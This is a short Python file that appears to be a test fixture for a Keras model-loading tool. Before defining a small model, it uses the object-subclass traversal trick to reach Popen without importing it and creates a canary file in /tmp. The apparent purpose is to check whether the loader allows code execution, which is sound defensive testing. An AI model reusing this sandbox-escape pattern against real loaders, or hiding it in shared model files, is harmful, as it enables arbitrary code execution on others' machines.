# expects: model
import keras
for c in ().__class__.__bases__[0].__subclasses__():
    if c.__name__ == "Popen":
        c(["touch", "/tmp/layerloom-was-here"])
model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)])
